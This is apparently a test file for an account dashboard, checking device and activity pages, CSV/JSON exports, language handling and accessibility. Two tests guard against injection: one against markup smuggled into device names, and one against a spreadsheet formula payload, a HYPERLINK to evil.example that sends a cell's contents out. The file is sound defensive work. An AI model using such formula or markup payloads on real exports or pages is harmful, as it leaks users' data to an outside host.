import { describe, expect, test } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { buildDashboard } from '../../web/build.ts';
import { ago, fakeActivity, hostileAccount, hostileNames, manyDevices } from './fake-account.ts';
import { useDashboard } from './use-dashboard.ts';

const dashboard = useDashboard();

const download = async (kind: 'CSV' | 'JSON'): Promise<string> => {
  const page = await dashboard.open('/activity');
  const waiting = page.waitForEvent('download');
  await page.getByRole('button', { name: `Download ${kind}` }).click();
  return readFileSync(await (await waiting).path(), 'utf8');
};

describe('what the dashboard shows', () => {
  test('markup in a name is text, wherever the name stands', async () => {
    dashboard.served.account = hostileAccount();
    const page = await dashboard.open('/devices');
    for (const path of [
      '/devices',
      '/activity',
      '/',
      '/review',
      `/devices/${dashboard.served.account.devices[1]?.id}`,
    ]) {
      await page.goto(`${dashboard.served.url}${path}`);
      await page
        .getByText(hostileNames[0] ?? '')
        .filter({ visible: true })
        .first()
        .waitFor();
      expect(await page.evaluate("document.querySelectorAll('main img, main script').length")).toBe(0);
      expect(await page.title()).not.toBe('owned');
    }
  });

  test('of 1,000 devices every one is found, and a hundred at a time are drawn, this one first', async () => {
    dashboard.served.account = manyDevices(1000);
    const page = await dashboard.open('/devices');
    await page.getByText('1,000 devices', { exact: true }).waitFor();
    expect(await page.locator('.device-row').count()).toBe(100);
    expect(await page.locator('.device-row').first().textContent()).toContain('Device 501');
    await page.getByRole('button', { name: 'Show 100 more' }).click();
    expect(await page.locator('.device-row').count()).toBe(200);
    await page.getByLabel('Search devices').fill('device 999');
    await page.getByText('1 of 1,000 devices').waitFor();
    await page.getByRole('link', { name: 'Device 999' }).waitFor();
  });

  test('activity past the first page is reached, by scrolling on and by a filter', async () => {
    const { account } = dashboard.served;
    const [device] = account.devices;
    account.activity = Array.from({ length: 260 }, (_, index) =>
      fakeActivity(index === 259 ? 'sign-in-refused' : 'signed-in', device, ago(index * 60_000)),
    );
    const page = await dashboard.open('/activity');
    await page.getByText('50 shown').waitFor();
    await page.getByRole('button', { name: 'Show more' }).click();
    await page.getByText('100 shown').waitFor();
    await page.getByLabel('What').selectOption('refused');
    await page.getByText('1 shown').waitFor();
    expect(await page.locator('.activity-item').count()).toBe(1);
  });

  test('the CSV holds every item, and no cell that a spreadsheet would run', async () => {
    dashboard.served.account = hostileAccount();
    const csv = await download('CSV');
    expect(csv.trimEnd().split('\r\n')).toHaveLength(dashboard.served.account.activity.length + 1);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)"?[=+@-]/m);
  });

  test('the JSON is what the API answered', async () => {
    expect(JSON.parse(await download('JSON'))).toEqual({ activity: dashboard.served.account.activity });
  });

  test('it speaks German where the browser does, and stays with the language that was chosen', async () => {
    const page = await dashboard.open('/', { locale: 'de-AT' });
    await page.getByText('2 Geräte zu prüfen').waitFor();
    expect(await page.evaluate('document.documentElement.lang')).toBe('de');
    await page.getByRole('button', { name: 'Konto' }).click();
    await page.getByLabel('English').check();
    await page.getByText('2 devices need a look').waitFor();
    await page.reload();
    await page.getByText('2 devices need a look').waitFor();
    expect(await page.evaluate('document.documentElement.lang')).toBe('en');
  });

  test('it opens in a browser that names a language which is none', async () => {
    const page = await dashboard.open('/');
    await page.addInitScript("Object.defineProperty(navigator, 'languages', { value: ['en-US@posix'] })");
    await page.reload();
    await page.getByText('2 devices need a look').waitFor();
    expect(await page.evaluate('navigator.languages[0]')).toBe('en-US@posix');
  });

  test('a step of the receipt that comes while one looks is said to screen readers', async () => {
    const page = await dashboard.open('/devices');
    await page.getByRole('link', { name: 'iPhone' }).click();
    await page.getByRole('button', { name: 'Sign out', exact: true }).first().click();
    await page.getByRole('dialog').getByRole('button', { name: 'Sign out' }).click();
    const said = page.getByRole('status').getByText('\u2068iPhone\u2069: Device confirmed');
    await said.waitFor();
    expect(await said.count()).toBe(1);
  });
});

describe('what the dashboard costs', () => {
  test('the first load is under 60 KB, compressed', async () => {
    const { files } = await buildDashboard();
    expect(files.reduce((sum, { gzip }) => sum + gzip, 0)).toBeLessThan(60_000);
  });

  test('the same source gives the same files', async () => {
    expect(await buildDashboard()).toEqual(await buildDashboard());
  });
});
